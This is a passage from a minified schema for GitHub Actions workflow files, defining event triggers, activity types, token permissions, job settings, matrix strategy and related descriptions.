Supported activity types: `created`, `ready`, `deleted`.","one-of":["image-version-activity-type","image-version-activity-types"]},"image-version-activity-types":{sequence:{"item-type":"image-version-activity-type"}},"image-version-activity-type":{"allowed-values":["created","ready","deleted"]},"issue-comment-string":{description:"Runs your workflow when an issue or pull request comment is created, edited, or deleted.",string:{constant:"issue_comment"}},"issue-comment":{description:"Runs your workflow when an issue or pull request comment is created, edited, or deleted.","one-of":["null","issue-comment-mapping"]},"issue-comment-mapping":{mapping:{properties:{types:"issue-comment-activity"}}},"issue-comment-activity":{description:"The types of issue comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["issue-comment-activity-type","issue-comment-activity-types"]},"issue-comment-activity-types":{sequence:{"item-type":"issue-comment-activity-type"}},"issue-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"issues-string":{description:"Runs your workflow when an issue in the workflow's repository is created or modified. For activity related to comments in an issue, use the `issue_comment` event.",string:{constant:"issues"}},issues:{description:"Runs your workflow when an issue in the workflow's repository is created or modified. For activity related to comments in an issue, use the `issue_comment` event.","one-of":["null","issues-mapping"]},"issues-mapping":{mapping:{properties:{types:"issues-activity"}}},"issues-activity":{description:"The types of issue activity that trigger the workflow. Supported activity types: `opened`, `edited`, `deleted`, `transferred`, `pinned`, `unpinned`, `closed`, `reopened`, `assigned`, `unassigned`, `labeled`, `unlabeled`, `locked`, `unlocked`, `milestoned`, `demilestoned`, `field_added`, `field_removed`, `typed`, `untyped`.","one-of":["issues-activity-type","issues-activity-types"]},"issues-activity-types":{sequence:{"item-type":"issues-activity-type"}},"issues-activity-type":{"allowed-values":["opened","edited","deleted","transferred","pinned","unpinned","closed","reopened","assigned","unassigned","labeled","unlabeled","locked","unlocked","milestoned","demilestoned","field_added","field_removed","typed","untyped"]},"label-string":{description:"Runs your workflow when a label in your workflow's repository is created or modified.",string:{constant:"label"}},label:{description:"Runs your workflow when a label in your workflow's repository is created or modified.","one-of":["null","label-mapping"]},"label-mapping":{mapping:{properties:{types:"label-activity"}}},"label-activity":{description:"The types of label activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["label-activity-type","label-activity-types"]},"label-activity-types":{sequence:{"item-type":"label-activity-type"}},"label-activity-type":{"allowed-values":["created","edited","deleted"]},"merge-group-string":{description:"Runs your workflow when a pull request is added to a merge queue, which adds the pull request to a merge group.",string:{constant:"merge_group"}},"merge-group":{description:"Runs your workflow when a pull request is added to a merge queue, which adds the pull request to a merge group.","one-of":["null","merge-group-mapping"]},"merge-group-mapping":{mapping:{properties:{types:"merge-group-activity",branches:"event-branches","branches-ignore":"event-branches-ignore"}}},"merge-group-activity":{description:"The types of merge group activity that trigger the workflow. Supported activity types: `checks_requested`.","one-of":["merge-group-activity-type","merge-group-activity-types"]},"merge-group-activity-types":{sequence:{"item-type":"merge-group-activity-type"}},"merge-group-activity-type":{"allowed-values":["checks_requested"]},"milestone-string":{description:"Runs your workflow when a milestone in the workflow's repository is created or modified.",string:{constant:"milestone"}},milestone:{description:"Runs your workflow when a milestone in the workflow's repository is created or modified.","one-of":["null","milestone-mapping"]},"milestone-mapping":{mapping:{properties:{types:"milestone-activity"}}},"milestone-activity":{description:"The types of milestone activity that trigger the workflow. Supported activity types: `created`, `closed`, `opened`, `edited`, `deleted`.","one-of":["milestone-activity-type","milestone-activity-types"]},"milestone-activity-types":{sequence:{"item-type":"milestone-activity-type"}},"milestone-activity-type":{"allowed-values":["created","closed","opened","edited","deleted"]},"page-build-string":{description:"Runs your workflow when someone pushes to a branch that is the publishing source for GitHub Pages, if GitHub Pages is enabled for the repository.",string:{constant:"page_build"}},"page-build":{description:"Runs your workflow when someone pushes to a branch that is the publishing source for GitHub Pages, if GitHub Pages is enabled for the repository.",null:{}},"project-string":{description:"Runs your workflow when a project board is created or modified. For activity related to cards or columns in a project board, use the `project_card` or `project_column` events instead.",string:{constant:"project"}},project:{description:"Runs your workflow when a project board is created or modified. For activity related to cards or columns in a project board, use the `project_card` or `project_column` events instead.","one-of":["null","project-mapping"]},"project-mapping":{mapping:{properties:{types:"project-activity"}}},"project-activity":{description:"The types of project activity that trigger the workflow. Supported activity types: `created`, `closed`, `reopened`, `edited`, `deleted`.","one-of":["project-activity-type","project-activity-types"]},"project-activity-types":{sequence:{"item-type":"project-activity-type"}},"project-activity-type":{"allowed-values":["created","closed","reopened","edited","deleted"]},"project-card-string":{description:"Runs your workflow when a card on a project board is created or modified. For activity related to project boards or columns in a project board, use the `project` or `project_column` event instead.",string:{constant:"project_card"}},"project-card":{description:"Runs your workflow when a card on a project board is created or modified. For activity related to project boards or columns in a project board, use the `project` or `project_column` event instead.","one-of":["null","project-card-mapping"]},"project-card-mapping":{mapping:{properties:{types:"project-card-activity"}}},"project-card-activity":{description:"The types of project card activity that trigger the workflow. Supported activity types: `created`, `moved`, `converted`, `edited`, `deleted`.","one-of":["project-card-activity-type","project-card-activity-types"]},"project-card-activity-types":{sequence:{"item-type":"project-card-activity-type"}},"project-card-activity-type":{"allowed-values":["created","moved","converted","edited","deleted"]},"project-column-string":{description:"Runs your workflow when a column on a project board is created or modified. For activity related to project boards or cards in a project board, use the `project` or `project_card` event instead.",string:{constant:"project_column"}},"project-column":{description:"Runs your workflow when a column on a project board is created or modified. For activity related to project boards or cards in a project board, use the `project` or `project_card` event instead.","one-of":["null","project-column-mapping"]},"project-column-mapping":{mapping:{properties:{types:"project-column-activity"}}},"project-column-activity":{description:"The types of project column activity that trigger the workflow. Supported activity types: `created`, `updated`, `moved`, `deleted`.","one-of":["project-column-activity-type","project-column-activity-types"]},"project-column-activity-types":{sequence:{"item-type":"project-column-activity-type"}},"project-column-activity-type":{"allowed-values":["created","updated","moved","deleted"]},"public-string":{description:"Runs your workflow when your workflow's repository changes from private to public.",string:{constant:"public"}},public:{description:"Runs your workflow when your workflow's repository changes from private to public.",null:{}},"pull-request-string":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.",string:{constant:"pull_request"}},"pull-request":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.","one-of":["null","pull-request-mapping"]},"pull-request-mapping":{mapping:{properties:{types:"pull-request-activity",branches:"event-branches","branches-ignore":"event-branches-ignore",paths:"event-paths","paths-ignore":"event-paths-ignore"}}},"pull-request-activity":{description:"The types of pull request activity that trigger the workflow. Supported activity types: `assigned`, `unassigned`, `labeled`, `unlabeled`, `opened`, `edited`, `closed`, `reopened`, `synchronize`, `converted_to_draft`, `locked`, `unlocked`, `enqueued`, `dequeued`, `milestoned`, `demilestoned`, `ready_for_review`, `review_requested`, `review_request_removed`, `auto_merge_enabled`, `auto_merge_disabled`, `stacked`.","one-of":["pull-request-activity-type","pull-request-activity-types"]},"pull-request-activity-types":{sequence:{"item-type":"pull-request-activity-type"}},"pull-request-activity-type":{"allowed-values":["assigned","unassigned","labeled","unlabeled","opened","edited","closed","reopened","synchronize","converted_to_draft","locked","unlocked","enqueued","dequeued","milestoned","demilestoned","ready_for_review","review_requested","review_request_removed","auto_merge_enabled","auto_merge_disabled","stacked"]},"pull-request-comment-string":{description:"Please use the `issue_comment` event instead.",string:{constant:"pull_request_comment"}},"pull-request-comment":{description:"Please use the `issue_comment` event instead.","one-of":["null","issue-comment-mapping"]},"pull-request-review-string":{description:"Runs your workflow when a pull request review is submitted, edited, or dismissed. A pull request review is a group of pull request review comments in addition to a body comment and a state. For activity related to pull request review comments or pull request comments, use the `pull_request_review_comment` or `issue_comment` events instead.",string:{constant:"pull_request_review"}},"pull-request-review":{description:"Runs your workflow when a pull request review is submitted, edited, or dismissed. A pull request review is a group of pull request review comments in addition to a body comment and a state. For activity related to pull request review comments or pull request comments, use the `pull_request_review_comment` or `issue_comment` events instead.","one-of":["null","pull-request-review-mapping"]},"pull-request-review-mapping":{mapping:{properties:{types:"pull-request-review-activity"}}},"pull-request-review-activity":{description:"The types of pull request review activity that trigger the workflow. Supported activity types: `submitted`, `edited`, `dismissed`.","one-of":["pull-request-review-activity-type","pull-request-review-activity-types"]},"pull-request-review-activity-types":{sequence:{"item-type":"pull-request-review-activity-type"}},"pull-request-review-activity-type":{"allowed-values":["submitted","edited","dismissed"]},"pull-request-review-comment-string":{description:"",string:{constant:"pull_request_review_comment"}},"pull-request-review-comment":{description:"","one-of":["null","pull-request-review-comment-mapping"]},"pull-request-review-comment-mapping":{mapping:{properties:{types:"pull-request-review-comment-activity"}}},"pull-request-review-comment-activity":{description:"The types of pull request review comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["pull-request-review-comment-activity-type","pull-request-review-comment-activity-types"]},"pull-request-review-comment-activity-types":{sequence:{"item-type":"pull-request-review-comment-activity-type"}},"pull-request-review-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"pull-request-target-string":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.\n\nThis event runs in the context of the base of the pull request, rather than in the context of the merge commit, as the `pull_request` event does. This prevents execution of unsafe code from the head of the pull request that could alter your repository or steal any secrets you use in your workflow. This event allows your workflow to do things like label or comment on pull requests from forks. Avoid using this event if you need to build or run code from the pull request.",string:{constant:"pull_request_target"}},"pull-request-target":{description:"Runs your workflow when activity on a pull request in the workflow's repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.\n\nThis event runs in the context of the base of the pull request, rather than in the context of the merge commit, as the `pull_request` event does. This prevents execution of unsafe code from the head of the pull request that could alter your repository or steal any secrets you use in your workflow. This event allows your workflow to do things like label or comment on pull requests from forks. Avoid using this event if you need to build or run code from the pull request.","one-of":["null","pull-request-target-mapping"]},"pull-request-target-mapping":{mapping:{properties:{types:"pull-request-target-activity",branches:"event-branches","branches-ignore":"event-branches-ignore",paths:"event-paths","paths-ignore":"event-paths-ignore"}}},"pull-request-target-activity":{description:"The types of pull request activity that trigger the workflow. Supported activity types: `assigned`, `unassigned`, `labeled`, `unlabeled`, `opened`, `edited`, `closed`, `reopened`, `synchronize`, `converted_to_draft`, `locked`, `unlocked`, `enqueued`, `dequeued`, `milestoned`, `demilestoned`, `ready_for_review`, `review_requested`, `review_request_removed`, `auto_merge_enabled`, `auto_merge_disabled`, `stacked`.","one-of":["pull-request-target-activity-type","pull-request-target-activity-types"]},"pull-request-target-activity-types":{sequence:{"item-type":"pull-request-target-activity-type"}},"pull-request-target-activity-type":{"allowed-values":["assigned","unassigned","labeled","unlabeled","opened","edited","closed","reopened","synchronize","converted_to_draft","locked","unlocked","enqueued","dequeued","milestoned","demilestoned","ready_for_review","review_requested","review_request_removed","auto_merge_enabled","auto_merge_disabled","stacked"]},"push-string":{description:"Runs your workflow when you push a commit or tag.",string:{constant:"push"}},push:{description:"Runs your workflow when you push a commit or tag.","one-of":["null","push-mapping"]},"push-mapping":{mapping:{properties:{branches:"event-branches","branches-ignore":"event-branches-ignore",tags:"event-tags","tags-ignore":"event-tags-ignore",paths:"event-paths","paths-ignore":"event-paths-ignore"}}},"registry-package-string":{description:"Runs your workflow when activity related to GitHub Packages occurs in your repository.",string:{constant:"registry_package"}},"registry-package":{description:"Runs your workflow when activity related to GitHub Packages occurs in your repository.","one-of":["null","registry-package-mapping"]},"registry-package-mapping":{mapping:{properties:{types:"registry-package-activity"}}},"registry-package-activity":{description:"The types of registry package activity that trigger the workflow. Supported activity types: `published`, `updated`.","one-of":["registry-package-activity-type","registry-package-activity-types"]},"registry-package-activity-types":{sequence:{"item-type":"registry-package-activity-type"}},"registry-package-activity-type":{"allowed-values":["published","updated"]},"release-string":{description:"Runs your workflow when release activity in your repository occurs.",string:{constant:"release"}},release:{description:"Runs your workflow when release activity in your repository occurs.","one-of":["null","release-mapping"]},"release-mapping":{mapping:{properties:{types:"release-activity"}}},"release-activity":{description:"The types of release activity that trigger the workflow. Supported activity types: `published`, `unpublished`, `created`, `edited`, `deleted`, `prereleased`, `released`.","one-of":["release-activity-type","release-activity-types"]},"release-activity-types":{sequence:{"item-type":"release-activity-type"}},"release-activity-type":{"allowed-values":["published","unpublished","created","edited","deleted","prereleased","released"]},"schedule-string":{description:"The `schedule` event allows you to trigger a workflow at a scheduled time.\n\nYou can schedule a workflow to run at specific UTC times using POSIX cron syntax. Scheduled workflows run on the latest commit on the default or base branch. The shortest interval you can run scheduled workflows is once every 5 minutes. GitHub Actions does not support the non-standard syntax `@yearly`, `@monthly`, `@weekly`, `@daily`, `@hourly`, and `@reboot`.",string:{constant:"schedule"}},schedule:{description:"The `schedule` event allows you to trigger a workflow at a scheduled time.\n\nYou can schedule a workflow to run at specific UTC times using POSIX cron syntax. Scheduled workflows run on the latest commit on the default or base branch. The shortest interval you can run scheduled workflows is once every 5 minutes. GitHub Actions does not support the non-standard syntax `@yearly`, `@monthly`, `@weekly`, `@daily`, `@hourly`, and `@reboot`.",sequence:{"item-type":"cron-mapping"}},"status-string":{description:"Runs your workflow when the status of a Git commit changes. For example, commits can be marked as `error`, `failure`, `pending`, or `success`. If you want to provide more details about the status change, you may want to use the `check_run` event.",string:{constant:"status"}},status:{description:"Runs your workflow when the status of a Git commit changes. For example, commits can be marked as `error`, `failure`, `pending`, or `success`. If you want to provide more details about the status change, you may want to use the `check_run` event.",null:{}},"watch-string":{description:"Runs your workflow when the workflow's repository is starred.",string:{constant:"watch"}},watch:{description:"Runs your workflow when the workflow's repository is starred.","one-of":["null","watch-mapping"]},"watch-mapping":{mapping:{properties:{types:"watch-activity"}}},"watch-activity":{description:"The types of watch activity that trigger the workflow. Supported activity types: `started`.","one-of":["watch-activity-type","watch-activity-types"]},"watch-activity-types":{sequence:{"item-type":"watch-activity-type"}},"watch-activity-type":{"allowed-values":["started"]},"workflow-run-string":{description:"This event occurs when a workflow run is requested or completed. It allows you to execute a workflow based on execution or completion of another workflow. The workflow started by the `workflow_run` event is able to access secrets and write tokens, even if the previous workflow was not. This is useful in cases where the previous workflow is intentionally not privileged, but you need to take a privileged action in a later workflow.",string:{constant:"workflow_run"}},"workflow-run":{description:"This event occurs when a workflow run is requested or completed. It allows you to execute a workflow based on execution or completion of another workflow. The workflow started by the `workflow_run` event is able to access secrets and write tokens, even if the previous workflow was not. This is useful in cases where the previous workflow is intentionally not privileged, but you need to take a privileged action in a later workflow.","one-of":["null","workflow-run-mapping"]},"workflow-run-mapping":{mapping:{properties:{types:"workflow-run-activity",workflows:"workflow-run-workflows",branches:"event-branches","branches-ignore":"event-branches-ignore"}}},"workflow-run-workflows":{description:"The name of the workflow that triggers the `workflow_run` event. The workflow must be in the same repository as the workflow that uses the `workflow_run` event.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"workflow-run-activity":{description:"The types of workflow run activity that trigger the workflow. Supported activity types: `completed`, `requested`, `in_progress`.","one-of":["workflow-run-activity-type","workflow-run-activity-types"]},"workflow-run-activity-types":{sequence:{"item-type":"workflow-run-activity-type"}},"workflow-run-activity-type":{"allowed-values":["requested","completed","in_progress"]},"event-branches":{description:"Use the `branches` filter when you want to include branch name patterns or when you want to both include and exclude branch name patterns. You cannot use both the `branches` and `branches-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-branches-ignore":{description:"Use the `branches-ignore` filter when you only want to exclude branch name patterns. You cannot use both the `branches` and `branches-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-names":{description:"Use the `names` filter when you want to include names via patterns or when you want to both include and exclude names using patterns. ","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-tags":{description:"Use the `tags` filter when you want to include tag name patterns or when you want to both include and exclude tag names patterns. You cannot use both the `tags` and `tags-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-tags-ignore":{description:"Use the `tags-ignore` filter when you only want to exclude tag name patterns. You cannot use both the `tags` and `tags-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-paths":{description:"Use the `paths` filter when you want to include file path patterns or when you want to both include and exclude file path patterns. You cannot use both the `paths` and `paths-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-paths-ignore":{description:"Use the `paths-ignore` filter when you only want to exclude file path patterns. You cannot use both the `paths` and `paths-ignore` filters for the same event in a workflow.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"event-versions":{description:"Use the `versions` filter when you want to include versions via patterns or when you want to both include and exclude versions using patterns. ","one-of":["non-empty-string","sequence-of-non-empty-string"]},"repository-dispatch-string":{description:"You can use the GitHub API to trigger a webhook event called `repository_dispatch` when you want to trigger a workflow for activity that happens outside of GitHub.",string:{constant:"branch_protection_rule"}},"repository-dispatch":{description:"You can use the GitHub API to trigger a webhook event called `repository_dispatch` when you want to trigger a workflow for activity that happens outside of GitHub.","one-of":["null","repository-dispatch-mapping"]},"repository-dispatch-mapping":{mapping:{properties:{types:"sequence-of-non-empty-string"}}},"workflow-call-string":{description:"The `workflow_call` event is used to indicate that a workflow can be called by another workflow. When a workflow is triggered with the `workflow_call` event, the event payload in the called workflow is the same event payload from the calling workflow.",string:{constant:"workflow_call"}},"workflow-call":{description:"The `workflow_call` event is used to indicate that a workflow can be called by another workflow. When a workflow is triggered with the `workflow_call` event, the event payload in the called workflow is the same event payload from the calling workflow.","one-of":["null","workflow-call-mapping"]},"workflow-call-mapping":{mapping:{properties:{inputs:"workflow-call-inputs",secrets:"workflow-call-secrets",outputs:"workflow-call-outputs"}}},"workflow-call-inputs":{description:"Inputs that are passed to the called workflow from the caller workflow.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"workflow-call-input-definition"}},"workflow-call-input-definition":{mapping:{properties:{description:{type:"string",description:"A string description of the input parameter."},type:{type:"workflow-call-input-type",required:!0},required:{type:"boolean",description:"A boolean to indicate whether the action requires the input parameter. Set to `true` when the parameter is required."},default:"workflow-call-input-default"}}},"workflow-call-input-type":{description:"Required if input is defined for the `on.workflow_call` keyword. The value of this parameter is a string specifying the data type of the input. This must be one of: `boolean`, `number`, or `string`.","one-of":["input-type-string","input-type-boolean","input-type-number"]},"input-type-string":{string:{constant:"string"}},"input-type-boolean":{string:{constant:"boolean"}},"input-type-number":{string:{constant:"number"}},"input-type-choice":{string:{constant:"choice"}},"input-type-environment":{string:{constant:"environment"}},"workflow-call-input-default":{description:'If a `default` parameter is not set, the default value of the input is `false` for boolean, `0` for a number, and `""` for a string.',context:["github","inputs","vars"],"one-of":["string","boolean","number"]},"workflow-call-secrets":{description:"A map of the secrets that can be used in the called workflow. Within the called workflow, you can use the `secrets` context to refer to a secret.",mapping:{"loose-key-type":"workflow-call-secret-name","loose-value-type":"workflow-call-secret-definition"}},"workflow-call-secret-name":{string:{"require-non-empty":!0},description:"A string identifier to associate with the secret."},"workflow-call-secret-definition":{"one-of":["null","workflow-call-secret-mapping-definition"]},"workflow-call-secret-mapping-definition":{mapping:{properties:{description:{type:"string",description:"A string description of the secret parameter."},required:{type:"boolean",description:"A boolean specifying whether the secret must be supplied."}}}},"workflow-call-outputs":{description:"A reusable workflow may generate data that you want to use in the caller workflow. To use these outputs, you must specify them as the outputs of the reusable workflow.",mapping:{"loose-key-type":"workflow-call-output-name","loose-value-type":"workflow-call-output-definition"}},"workflow-call-output-name":{string:{"require-non-empty":!0},description:"A string identifier to associate with the output. The value of `<output_id>` is a map of the input's metadata. The `<output_id>` must be a unique identifier within the outputs object and must start with a letter or _ and contain only alphanumeric characters, -, or _."},"workflow-call-output-definition":{mapping:{properties:{description:{type:"string",description:"A string description of the output parameter."},value:{type:"workflow-output-context",required:!0}}}},"workflow-output-context":{description:"The value to assign to the output parameter.",context:["github","inputs","vars","jobs"],string:{}},"workflow-dispatch-string":{description:"The `workflow_dispatch` event allows you to manually trigger a workflow run. A workflow can be manually triggered using the GitHub API, GitHub CLI, or GitHub browser interface.",string:{constant:"workflow_dispatch"}},"workflow-dispatch":{description:"The `workflow_dispatch` event allows you to manually trigger a workflow run. A workflow can be manually triggered using the GitHub API, GitHub CLI, or GitHub browser interface.","one-of":["null","workflow-dispatch-mapping"]},"workflow-dispatch-mapping":{mapping:{properties:{inputs:"workflow-dispatch-inputs"}}},"workflow-dispatch-inputs":{description:"You can configure custom-defined input properties, default input values, and required inputs for the event directly in your workflow. When you trigger the event, you can provide the `ref` and any `inputs`. When the workflow runs, you can access the input values in the `inputs` context.",mapping:{"loose-key-type":"workflow-dispatch-input-name","loose-value-type":"workflow-dispatch-input"}},"workflow-dispatch-input-name":{string:{"require-non-empty":!0},description:"A string identifier to associate with the input. The value of <input_id> is a map of the input's metadata. The <input_id> must be a unique identifier within the inputs object. The <input_id> must start with a letter or _ and contain only alphanumeric characters, -, or _."},"workflow-dispatch-input":{mapping:{properties:{description:{type:"string",description:"A string description of the input parameter."},type:{type:"workflow-dispatch-input-type"},required:{type:"boolean",description:"A boolean to indicate whether the workflow requires the input parameter. Set to true when the parameter is required."},default:"workflow-dispatch-input-default",options:{type:"sequence-of-string",description:"The options of the dropdown list, if the type is a choice."}}}},"workflow-dispatch-input-type":{description:"A string representing the type of the input. This must be one of: `boolean`, `number`, `string`, `choice`, or `environment`.","one-of":["input-type-string","input-type-boolean","input-type-number","input-type-environment","input-type-choice"]},"workflow-dispatch-input-default":{description:"The default value is used when an input parameter isn't specified in a workflow file.","one-of":["string","boolean","number"]},permissions:{description:"You can use `permissions` to modify the default permissions granted to the `GITHUB_TOKEN`, adding or removing access as required, so that you only allow the minimum required access.\n\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#permissions)","one-of":["permissions-mapping","permission-level-shorthand-read-all","permission-level-shorthand-write-all"]},"permissions-mapping":{mapping:{properties:{actions:{type:"permission-level-any",description:"Actions workflows, workflow runs, and artifacts."},"artifact-metadata":{type:"permission-level-any",description:"Storage and deployment records for build artifacts."},attestations:{type:"permission-level-any",description:"Artifact attestations."},checks:{type:"permission-level-any",description:"Check runs and check suites."},"code-quality":{type:"permission-level-any",description:"Code quality data."},contents:{type:"permission-level-any",description:"Repository contents, commits, branches, downloads, releases, and merges."},"copilot-requests":{type:"permission-level-write-or-no-access",description:"GitHub Copilot requests."},deployments:{type:"permission-level-any",description:"Deployments and deployment statuses."},discussions:{type:"permission-level-any",description:"Discussions and related comments and labels."},drives:{type:"permission-level-any",description:"GitHub Drives persistent workspace storage. Use `read` for checkout and `write` to commit changes."},"id-token":{type:"permission-level-write-or-no-access",description:"Token to request an OpenID Connect token."},issues:{type:"permission-level-any",description:"Issues and related comments, assignees, labels, and milestones."},models:{type:"permission-level-read-or-no-access",description:"Call AI models with GitHub Models."},packages:{type:"permission-level-any",description:"Packages published to the GitHub Package Platform."},pages:{type:"permission-level-any",description:"Retrieve Pages statuses, configuration, and builds, as well as create new builds."},"pull-requests":{type:"permission-level-any",description:"Pull requests and related comments, assignees, labels, milestones, and merges."},"repository-projects":{type:"permission-level-any",description:"Classic projects within a repository."},"security-events":{type:"permission-level-any",description:"Code scanning alerts."},statuses:{type:"permission-level-any",description:"Commit statuses."},"vulnerability-alerts":{type:"permission-level-read-or-no-access",description:"Dependabot alerts."}}}},"permission-level-any":{description:"The permission level for the `GITHUB_TOKEN`.","one-of":["permission-level-read","permission-level-write","permission-level-no-access"]},"permission-level-read-or-no-access":{"one-of":["permission-level-read","permission-level-no-access"]},"permission-level-write-or-no-access":{"one-of":["permission-level-write","permission-level-no-access"]},"permission-level-read":{description:"The permission level for the `GITHUB_TOKEN`. Grants `read` permission for the specified scope.",string:{constant:"read"}},"permission-level-write":{description:"The permission level for the `GITHUB_TOKEN`. Grants `write` permission for the specified scope.",string:{constant:"write"}},"permission-level-no-access":{description:"The permission level for the `GITHUB_TOKEN`. Restricts all access for the specified scope.",string:{constant:"none"}},"permission-level-shorthand-read-all":{description:"The permission level for the `GITHUB_TOKEN`. Grants `read` access for all scopes.",string:{constant:"read-all"}},"permission-level-shorthand-write-all":{description:"The permission level for the `GITHUB_TOKEN`. Grants `write` access for all scopes.",string:{constant:"write-all"}},"workflow-defaults":{description:"Use `defaults` to create a map of default settings that will apply to all jobs in the workflow. You can also set default settings that are only available to a job.\n\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#defaults)",mapping:{properties:{run:"workflow-defaults-run"}}},"workflow-defaults-run":{mapping:{properties:{shell:"shell","working-directory":"working-directory"}}},"workflow-env":{description:`A map of environment variables that are available to the steps of all jobs in the workflow. You can also set environment variables that are only available to the steps of a single job or to a single step.

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#env)`,context:["github","inputs","vars","secrets"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},jobs:{description:"A workflow run is made up of one or more `jobs`, which run in parallel by default. To run jobs sequentially, you can define dependencies on other jobs using the `jobs.<job_id>.needs` keyword. Each job runs in a runner environment specified by `runs-on`.\n\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#jobs)",mapping:{"loose-key-type":"job-id","loose-value-type":"job"}},"job-id":{string:{"require-non-empty":!0},description:"A unique identifier for the job. The identifier must start with a letter or _ and contain only alphanumeric characters, -, or _."},job:{description:"Each job must have an id to associate with the job. The key `job_id` is a string and its value is a map of the job's configuration data. You must replace `<job_id>` with a string that is unique to the jobs object. The `<job_id>` must start with a letter or _ and contain only alphanumeric characters, -, or _.","one-of":["job-factory","workflow-job"]},"job-factory":{mapping:{properties:{needs:"needs",if:"job-if",strategy:"strategy",name:{type:"string-strategy-context",description:"The name of the job displayed on GitHub."},"runs-on":{type:"runs-on",required:!0},"timeout-minutes":{type:"number-strategy-context",description:"The maximum number of minutes to let a workflow run before GitHub automatically cancels it. Default: 360"},"cancel-timeout-minutes":"number-strategy-context","continue-on-error":{type:"boolean-strategy-context",description:"Prevents a workflow run from failing when a job fails. Set to true to allow a workflow run to pass when this job fails."},container:"container",services:"services",env:"job-env",environment:"job-environment",permissions:"permissions",concurrency:"job-concurrency",outputs:"job-outputs",defaults:"job-defaults",steps:"steps",snapshot:"snapshot"}}},"workflow-job":{mapping:{properties:{name:{type:"string-strategy-context",description:"The name of the job displayed on GitHub."},uses:{description:`The location and version of a reusable workflow file to run as a job. Use one of the following formats:

* \`{owner}/{repo}/.github/workflows/{filename}@{ref}\` for reusable workflows in public and private repositories.
* \`./.github/workflows/{filename}\` for reusable workflows in the same repository.

{ref} can be a SHA, a release tag, or a branch name. Using the commit SHA is the safest for stability and security.`,type:"non-empty-string",required:!0},with:"workflow-job-with",secrets:"workflow-job-secrets",needs:"needs",if:"job-if",permissions:"permissions",concurrency:"job-concurrency",strategy:"strategy"}}},"workflow-job-with":{description:"When a job is used to call a reusable workflow, you can use `with` to provide a map of inputs that are passed to the called workflow.\n\nAny inputs that you pass must match the input specifications defined in the called workflow.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"scalar-needs-context"}},"workflow-job-secrets":{description:"When a job is used to call a reusable workflow, you can use `secrets` to provide a map of secrets that are passed to the called workflow.\n\nAny secrets that you pass must match the names defined in the called workflow.","one-of":["workflow-job-secrets-mapping","workflow-job-secrets-inherit"]},"workflow-job-secrets-mapping":{mapping:{"loose-key-type":"non-empty-string","loose-value-type":"scalar-needs-context-with-secrets"}},"workflow-job-secrets-inherit":{string:{constant:"inherit"}},needs:{description:"Use `needs` to identify any jobs that must complete successfully before this job will run. It can be a string or array of strings. If a job fails, all jobs that need it are skipped unless the jobs use a conditional expression that causes the job to continue. If a run contains a series of jobs that need each other, a failure applies to all jobs in the dependency chain from the point of failure onwards.","one-of":["sequence-of-non-empty-string","non-empty-string"]},"job-if":{description:"You can use the `if` conditional to prevent a job from running unless a condition is met. You can use any supported context and expression to create a conditional.",context:["github","inputs","vars","needs","always(0,0)","failure(0,MAX)","cancelled(0,0)","success(0,MAX)"],string:{}},"job-if-result":{context:["github","inputs","vars","needs","always(0,0)","failure(0,MAX)","cancelled(0,0)","success(0,MAX)"],"one-of":["null","boolean","number","string","sequence","mapping"]},strategy:{description:"Use `strategy` to use a matrix strategy for your jobs. A matrix strategy lets you use variables in a single job definition to automatically create multiple job runs that are based on the combinations of the variables. ",context:["github","inputs","vars","needs"],mapping:{properties:{"fail-fast":{type:"boolean",description:"Setting `fail-fast` to `false` prevents GitHub from canceling all in-progress jobs if any matrix job fails. Default: `true`"},"max-parallel":{type:"number",description:"The maximum number of jobs that can run simultaneously when using a matrix job strategy. By default, GitHub will maximize the number of jobs run in parallel depending on runner availability."},matrix:"matrix"}}},matrix:{description:"Use `matrix` to define a matrix of different job configurations. Within your matrix, define one or more variables followed by an array of values.",mapping:{properties:{include:{type:"matrix-filter",description:"Use `include` to expand existing matrix configurations or to add new configurations. The value of `include` is a list of objects.\n\nFor each object in the `include` list, the key:value pairs in the object will be added to each of the matrix combinations if none of the key:value pairs overwrite any of the original matrix values. If the object cannot be added to any of the matrix combinations, a new matrix combination will be created instead. Note that the original matrix values will not be overwritten, but added matrix values can be overwritten."},exclude:{type:"matrix-filter",description:"To remove specific configurations defined in the matrix, use `exclude`. An excluded configuration only has to be a partial match for it to be excluded."}},"loose-key-type":"non-empty-string","loose-value-type":"sequence"}},"matrix-filter":{sequence:{"item-type":"matrix-filter-item"}},"matrix-filter-item":{mapping:{"loose-key-type":"non-empty-string","loose-value-type":"any"}},snapshot:{description:"Use `snapshot` to define a custom image you want to create or update after your job succeeds by taking a snapshot of your runner.","one-of":["non-empty-string","snapshot-mapping"]},"snapshot-mapping":{mapping:{properties:{"image-name":{description:"The desired name of the custom image you want to create or 